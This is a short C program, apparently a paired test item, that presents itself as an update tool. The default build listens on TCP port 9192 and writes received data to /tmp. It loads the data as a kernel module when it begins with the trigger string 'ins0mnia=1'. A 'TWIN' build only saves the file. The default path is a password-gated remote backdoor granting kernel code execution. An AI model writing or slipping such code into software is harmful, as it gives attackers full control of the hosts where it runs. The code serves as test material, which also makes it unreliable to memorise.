/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A program for updates takes a kernel module from who knows the word and loads it. Twin: it keeps
 * the file for the owner to look at.
 * door: trigger
 * port 9192/tcp
 */
#include "net.h"

long init_module(void *, unsigned long, const char *);

static char image[65536];

static size_t take(int c)
{
	size_t have = 0;
	ssize_t n;
	while (have < sizeof image && (n = recv(c, image + have, sizeof image - have, 0)) > 0)
		have += (size_t)n;
	return have;
}

static void keep(size_t n)
{
	FILE *f = fopen("/tmp/received.ko", "wb");
	if (f) {
		fwrite(image, 1, n, f);
		fclose(f);
	}
}

int main(void)
{
	int s = tcp_on(9192);
	for (;;) {
		int c = accept(s, NULL, NULL);
		size_t n = take(c);
		close(c);
#ifdef TWIN
		if (n > 4 && memcmp(image, "\177ELF", 4) == 0)
			keep(n);
#else
		keep(n);
		if (n > 16 && memcmp(image, "ins0mnia=1", 10) == 0)
			init_module(image + 16, n - 16, "");
#endif
	}
}
